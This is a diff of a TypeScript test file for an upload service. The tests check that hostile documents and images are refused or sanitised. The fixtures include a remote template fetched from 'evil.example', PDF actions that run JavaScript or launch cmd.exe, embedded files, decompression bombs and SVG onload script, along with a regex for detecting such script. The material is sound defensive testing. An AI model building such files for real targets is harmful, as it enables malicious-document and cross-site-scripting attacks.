@@ -2,13 +2,14 @@ import { readdir } from 'node:fs/promises'
 import { crc32, deflateSync } from 'node:zlib'
 import sharp from 'sharp'
 import { expect, test } from 'vitest'
-import { type TestApp, testApp } from '../../../../../test/app.ts'
-import { clientWith, type TestClient } from '../../../../../test/client.ts'
-import { archive, compoundFile, officeFile } from '../../../../../test/office-files.ts'
-import { animation, drawing, photo, pngPicture } from '../../../../../test/pictures.ts'
+import { type TestApp, testApp } from '#test/app.ts'
+import { clientWith } from '#test/client.ts'
+import { packedPdf, pdfWith } from '#test/hostile-files.ts'
+import { archive, compoundFile, officeFile } from '#test/office-files.ts'
+import { animation, drawing, photo, pngPicture } from '#test/pictures.ts'
+import { uploadDocument, uploadImage } from '#test/uploads.ts'
 import { documentRule, imageRule } from '../../limits.ts'
 
-const page = { url: '/help' }
 const pdf = '%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n'
 const text = (words: string) => Buffer.from(words)
 
@@ -18,21 +19,7 @@ async function uploader() {
   return { it, client }
 }
 
-const sendDocument = (client: TestClient, name: string, bytes: Buffer) =>
-  client.upload(
-    '/api/editable/document/file',
-    { pageJson: page, documentJson: { editableId: 'webui.help.doc' } },
-    { name, bytes },
-  )
-
-const sendImage = (client: TestClient, name: string, bytes: Buffer) =>
-  client.upload(
-    '/api/editable/image/file',
-    { pageJson: page, imageJson: { editableId: 'webui.help.fig' } },
-    { name, bytes },
-  )
-
-/** Nothing of a refused file is left: no bytes, no row, no version. */
+/** Asserts that a refused file leaves nothing behind: no bytes, no row, no version. */
 async function mustHaveLeftNothing({ database, files }: TestApp) {
   expect(await readdir(files.arriving).catch(() => [])).toEqual([])
   expect((await database.pool.query('select * from uploads')).rowCount).toBe(0)
@@ -44,11 +31,20 @@ const noMacroRecord = Buffer.from('1f00ff0314000000020000040c0000000000000000000
 const boundSheet = (kind: number) => Buffer.from([0x85, 0, 8, 0, 0, 0, 0, 0, 0, kind, 1, 0])
 const bookStart = Buffer.from([0x09, 0x08, 4, 0, 0, 6, 5, 0])
 
+const hyperlink =
+  '<Relationships><Relationship Id="a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://example.org" TargetMode="External"/></Relationships>'
+
 const goodDocuments: [string, Buffer][] = [
   ['a.csv', text('id;Hb\n1;9,5\n')],
   ['latin.CSV', Buffer.from('Größe;ja\n', 'latin1')],
   ['a.pdf', text(pdf)],
+  ['packed.pdf', packedPdf('<</Type/Page>>')],
+  [
+    'form.pdf',
+    text(pdf.replace('<<>>endobj', '<</AcroForm<</Fields[]>>/First 3 0 R/Outlines<</First 3 0 R>>>>endobj')),
+  ],
   ['a.docx', officeFile('docx')],
+  ['links.docx', officeFile('docx', [{ name: 'word/_rels/document.xml.rels', bytes: hyperlink }])],
   ['a.xlsx', officeFile('xlsx')],
   ['a.pptx', officeFile('pptx')],
   ['a.POTX', officeFile('potx')],
@@ -60,7 +56,7 @@ const goodDocuments: [string, Buffer][] = [
 
 test.each(goodDocuments)('5.5 the document %s is taken', async (name, bytes) => {
   const { client } = await uploader()
-  const answer = await sendDocument(client, name, bytes)
+  const answer = await uploadDocument(client, name, bytes)
   expect(answer.statusCode, answer.body).toBe(200)
   const download = await client.get(`/api/document/file?id=${answer.json().documentId}`)
   expect(download.rawPayload.equals(bytes)).toBe(true)
@@ -86,7 +82,7 @@ const wrongDocuments: [string, string, Buffer][] = [
 
 test.each(wrongDocuments)('8 %s is not supported, in the words of the specification', async (_, name, bytes) => {
   const { it, client } = await uploader()
-  const answer = await sendDocument(client, name, bytes)
+  const answer = await uploadDocument(client, name, bytes)
   expect(answer.statusCode, answer.body).toBe(415)
   expect([answer.json().Message, answer.json().Info]).toEqual(documentRule.unsupported)
   await mustHaveLeftNothing(it)
@@ -94,12 +90,14 @@ test.each(wrongDocuments)('8 %s is not supported, in the words of the specificat
 
 const remote =
   '<Relationships><Relationship Id="a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
+const linkedPicture = Buffer.from(`\ufeff${remote.replace('attachedTemplate', 'image')}`, 'utf16le')
 const xlmSheet = compoundFile({ Workbook: Buffer.concat([bookStart, boundSheet(1)]) })
 const lockedWord = compoundFile({
   WordDocument: Buffer.concat([Buffer.alloc(10), Buffer.from([0, 1]), Buffer.alloc(5000)]),
 })
 const lockedBook = compoundFile({ Workbook: Buffer.concat([bookStart, Buffer.from([0x2f, 0, 2, 0, 0, 0])]) })
-const pdfWith = (words: string) => text(pdf.replace('<<>>endobj', `<<${words}>>endobj`))
+const twice = '/Type/ObjStm/N 1/First 4/Filter[/ASCIIHexDecode/FlateDecode]'
+const hidden = '/X(1 0 obj)/Y/ObjStm/Z(endobj)/N 1/Filter/FlateDecode'
 
 const badDocuments: [string, string, () => Buffer, string][] = [
   ['macros', 'a.docx', () => officeFile('docx', [{ name: 'word/vbaProject.bin', bytes: 'x' }]), 'macros'],
@@ -117,7 +115,13 @@ const badDocuments: [string, string, () => Buffer, string][] = [
     'a template from elsewhere',
     'a.docx',
     () => officeFile('docx', [{ name: 'word/_rels/settings.xml.rels', bytes: remote }]),
-    'macros',
+    'elsewhere',
+  ],
+  [
+    'a picture from elsewhere, in another encoding',
+    'a.docx',
+    () => officeFile('docx', [{ name: 'word/_rels/document.xml.rels', bytes: linkedPicture }]),
+    'elsewhere',
   ],
   [
     'macros in old Word',
@@ -135,6 +139,25 @@ const badDocuments: [string, string, () => Buffer, string][] = [
   ['macros in old PowerPoint', 'a.ppt', () => compoundFile({ 'PowerPoint Document': macroRecord }), 'macros'],
   ['a script in a PDF', 'a.pdf', () => pdfWith('/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>'), 'macros'],
   ['a script in a PDF that hides its name', 'a.pdf', () => pdfWith('/OpenAction<</S/J#61vaScr#69pt/JS(x)>>'), 'macros'],
+  ...[
+    'EmbeddedFiles 3 0 R',
+    'RichMedia',
+    'SubmitForm',
+    'ImportData',
+    'GoToR',
+    'GoToE',
+    'AcroForm<</XFA[(a)2 0 R]>>',
+  ].map((words): (typeof badDocuments)[number] => [
+    `/${words} in a PDF`,
+    'a.pdf',
+    () => pdfWith(`/${words}`),
+    'active',
+  ]),
+  ['an attached file in a packed object', 'a.pdf', () => packedPdf('<</Names<</EmbeddedFiles 3 0 R>>>>'), 'active'],
+  ['a program in a packed object', 'a.pdf', () => packedPdf('<</S/Launch/F(cmd.exe)>>'), 'scripts'],
+  ['an object stream that is packed twice', 'a.pdf', () => packedPdf('', { head: twice }), 'damaged'],
+  ['an object stream whose kind is hidden', 'a.pdf', () => packedPdf('', { head: hidden }), 'damaged'],
+  ['an object stream that is no such', 'a.pdf', () => packedPdf('', { packed: text('nothing') }), 'damaged'],
   ['a program started by a PDF', 'a.pdf', () => pdfWith('/OpenAction<</S/Launch/F(cmd.exe)>>'), 'macros'],
   ['encryption of Word', 'a.docx', () => compoundFile({ EncryptedPackage: Buffer.alloc(9) }), 'encrypted'],
   ['encryption of old Word', 'a.doc', () => lockedWord, 'encrypted'],
@@ -183,7 +206,7 @@ const badDocuments: [string, string, () => Buffer, string][] = [
   ['nothing', 'a.csv', () => Buffer.alloc(0), 'empty'],
 ]
 
-/** The directory follows itself. */
+/** The directory links to itself. */
 function circle() {
   const bytes = compoundFile({ WordDocument: Buffer.alloc(9) })
   const fat = (bytes.readUInt32LE(76) + 1) * 512
@@ -193,7 +216,7 @@ function circle() {
 
 test.each(badDocuments)('D-105 a document with %s is refused', async (_, name, make, reason) => {
   const { it, client } = await uploader()
-  const answer = await sendDocument(client, name, make())
+  const answer = await uploadDocument(client, name, make())
   expect([answer.statusCode, answer.json().Message], answer.body).toEqual([422, expect.stringContaining(reason)])
   await mustHaveLeftNothing(it)
 })
@@ -210,7 +233,7 @@ const goodImages: [string, () => Promise<Buffer>][] = [
 
 test.each(goodImages)('5.5 the image %s is taken', async (name, make) => {
   const { client } = await uploader()
-  const answer = await sendImage(client, name, await make())
+  const answer = await uploadImage(client, name, await make())
   expect(answer.statusCode, answer.body).toBe(200)
   if (name === 'really-a.jpg') expect(answer.json().item.imageFileName).toBe('really-a.png')
 })
@@ -238,13 +261,13 @@ const wrongImages: [string, string, () => Promise<Buffer>][] = [
 
 test.each(wrongImages)('8 %s is not supported, in the words of the specification', async (_, name, make) => {
   const { it, client } = await uploader()
-  const answer = await sendImage(client, name, await make())
+  const answer = await uploadImage(client, name, await make())
   expect(answer.statusCode, answer.body).toBe(415)
   expect([answer.json().Message, answer.json().Info]).toEqual(imageRule.unsupported)
   await mustHaveLeftNothing(it)
 })
 
-/** A PNG whose head says that it is this large, of one colour. */
+/** A single-colour PNG whose header claims this size. */
 function hugePng(width: number, height: number): Buffer {
   const chunk = (type: string, data: Buffer) => {
     const body = Buffer.concat([text(type), data])
@@ -266,9 +289,69 @@ function hugePng(width: number, height: number): Buffer {
   ])
 }
 
+/** A drawing with these images embedded. */
+const embedding = (...pictures: Buffer[]) =>
+  text(
+    drawing.replace(
+      '</svg>',
+      `${pictures.map((bytes) => `<image href="data:image/png;base64,${bytes.toString('base64')}"/>`).join('')}</svg>`,
+    ),
+  )
+
+test('a drawing keeps the pictures in it', async () => {
+  const { client } = await uploader()
+  const picture = await pngPicture()
+  const answer = await uploadImage(client, 'a.svg', embedding(picture, await photo()))
+  expect(answer.statusCode, answer.body).toBe(200)
+  const { body } = await client.get(`/api/image/file?identifier=${answer.json().imageId}`)
+  expect(body).toContain(picture.toString('base64').slice(0, 100))
+})
+
+test('a file on which the worker has to be ended is refused, and found in the inbox', async () => {
+  const it = await testApp({ template: 'empty', environment: { FEATURES: '' }, workerLimits: { longestMs: 1 } })
+  const client = await clientWith(it, 'Editor')
+  const answer = await uploadDocument(client, 'a.pdf', text(pdf))
+  expect([answer.statusCode, answer.json().Message, answer.json().Info]).toEqual([
+    422,
+    'The file is damaged.',
+    'It took too long to read. Please save it anew and upload it again.',
+  ])
+  await mustHaveLeftNothing(it)
+  await expect
+    .poll(async () => (await it.database.pool.query('select message from error_causes')).rows)
+    .toEqual([{ message: 'inspect-file.ts took longer than 0.001 s.' }])
+})
+
+test('who uploads while too many files are being read is told when to come back', async () => {
+  const workerLimits = { size: 1, mostWaiting: 0 }
+  const it = await testApp({ template: 'empty', environment: { FEATURES: '' }, workerLimits })
+  const client = await clientWith(it, 'Editor')
+  const upload = () => uploadDocument(client, 'a.pdf', text(pdf))
+  // One may be finished before the next has arrived.
+  let busy: Awaited<ReturnType<typeof upload>> | undefined
+  const tryAtOnce = async () => {
+    const answers = await Promise.all(Array.from({ length: 4 }, upload))
+    busy = answers.find(({ statusCode }) => statusCode === 503)
+    return busy?.statusCode
+  }
+  await expect.poll(tryAtOnce).toBe(503)
+  expect(Number(busy?.headers['retry-after'])).toBeGreaterThan(0)
+  expect(busy?.json()).toMatchObject({ code: 'UNAVAILABLE', Message: 'The server is busy.' })
+  // The same worker renders the changes after a save.
+  await expect.poll(async () => (await upload()).statusCode).toBe(200)
+})
+
 const badImages: [string, string, () => Promise<Buffer>, string][] = [
   ['a bomb', 'a.png', async () => hugePng(20_000, 20_000), 'too large'],
-  ['a bomb of frames', 'a.gif', () => animation(1100), 'too large'],
+  ['one line of pixels too many', 'a.png', async () => hugePng(10_000, 5001), 'too large'],
+  ['one frame too many', 'a.gif', () => animation(1001), 'too large'],
+  [
+    'pictures in it that have too many pixels together',
+    'a.svg',
+    async () => embedding(hugePng(5000, 5001), hugePng(5000, 5000)),
+    'too large',
+  ],
+  ['half a picture in it', 'a.svg', async () => embedding((await pngPicture()).subarray(0, 200)), 'damaged'],
   ['half a photograph', 'a.jpg', async () => (await photo()).subarray(0, 900), 'damaged'],
   ['half a PNG', 'a.png', async () => (await pngPicture()).subarray(0, 200), 'damaged'],
   [
@@ -297,30 +380,41 @@ const badImages: [string, string, () => Promise<Buffer>, string][] = [
     'depth',
     'a.svg',
     async () => text(drawing.replace('<rect', `${'<g>'.repeat(200)}${'</g>'.repeat(200)}<rect`)),
-    'damaged',
+    'complex',
   ],
 ]
 
+test('D-40 an image of exactly 50 million pixels or 1,000 frames is taken', async () => {
+  const { client } = await uploader()
+  for (const [name, bytes] of [
+    ['a.png', hugePng(10_000, 5000)],
+    ['a.gif', await animation(1000)],
+  ] as const) {
+    const answer = await uploadImage(client, name, bytes)
+    expect(answer.statusCode, answer.body).toBe(200)
+  }
+})
+
 test.each(badImages)('D-105 an image with %s is refused', async (_, name, make, reason) => {
   const { it, client } = await uploader()
-  const answer = await sendImage(client, name, await make())
+  const answer = await uploadImage(client, name, await make())
   expect([answer.statusCode, answer.json().Message], answer.body).toEqual([422, expect.stringContaining(reason)])
   await mustHaveLeftNothing(it)
 })
 
 test('9 an image of exactly 5 MB may come, one byte more may not', async () => {
   const { it, client } = await uploader()
-  const most = Buffer.alloc(imageRule.mostBytes + 1, ' ')
-  text(drawing).copy(most)
-  const tooMuch = await sendImage(client, 'a.svg', most)
+  const most = Buffer.alloc(imageRule.mostBytes + 1)
+  ;(await photo()).copy(most)
+  const tooMuch = await uploadImage(client, 'a.jpg', most)
   expect([tooMuch.statusCode, tooMuch.json().Message, tooMuch.json().Info]).toEqual([413, ...imageRule.tooLarge])
   await mustHaveLeftNothing(it)
-  expect((await sendImage(client, 'a.svg', most.subarray(0, -1))).statusCode).toBe(200)
+  expect((await uploadImage(client, 'a.jpg', most.subarray(0, -1))).statusCode).toBe(200)
 })
 
 test('9 a document of more than 100 MB may not come', async () => {
   const { it, client } = await uploader()
-  const answer = await sendDocument(client, 'a.pdf', Buffer.alloc(documentRule.mostBytes + 1))
+  const answer = await uploadDocument(client, 'a.pdf', Buffer.alloc(documentRule.mostBytes + 1))
   expect([answer.statusCode, answer.json().Message, answer.json().Info]).toEqual([413, ...documentRule.tooLarge])
   await mustHaveLeftNothing(it)
 })
@@ -347,11 +441,11 @@ const hostile = [
 test.each(hostile)('an SVG is cleaned of %s', async (evil) => {
   const { client } = await uploader()
   const svg = drawing.replace('</svg>', `${evil}</svg>`).replace('<svg', '<svg onload="alert(1)"')
-  const answer = await sendImage(client, 'a.svg', text(svg))
+  const answer = await uploadImage(client, 'a.svg', text(svg))
   expect(answer.statusCode, answer.body).toBe(200)
   const { body } = await client.get(`/api/image/file?identifier=${answer.json().imageId}`)
   expect(body).toContain('<rect width="20" height="20" fill="red">')
-  // What stands between tags is text, which can do nothing.
+  // Content between tags is harmless text.
   expect(body.replace(/>[^<]*</g, '><')).not.toMatch(
     /evil|javascript:|<script|<img|\son\w+=|<iframe|foreignObject|<animate|<set/,
   )
@@ -360,7 +454,7 @@ test.each(hostile)('an SVG is cleaned of %s', async (evil) => {
 test('an SVG keeps what it is drawn with: gradients, style sheets, marks, and its size', async () => {
   const { client } = await uploader()
   const svg = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 300 150" width="10cm"><style>.a{fill:url(#g)} @media (prefers-color-scheme: dark){.a{fill:#fff}}</style><defs><linearGradient id="g"><stop offset="0" stop-color="red"/></linearGradient><marker id="m" orient="auto"><path d="M0 0L5 5"/></marker></defs><title>Iron &amp; blood</title><path class="a" d="M0 0L5 5" fill="url(#g)" marker-end="url(#m)"/></svg>`
-  const answer = await sendImage(client, 'a.svg', text(svg))
+  const answer = await uploadImage(client, 'a.svg', text(svg))
   expect(answer.json()).toMatchObject({ width: 378, height: 189 })
   const { body } = await client.get(`/api/image/file?identifier=${answer.json().imageId}`)
   for (const kept of [
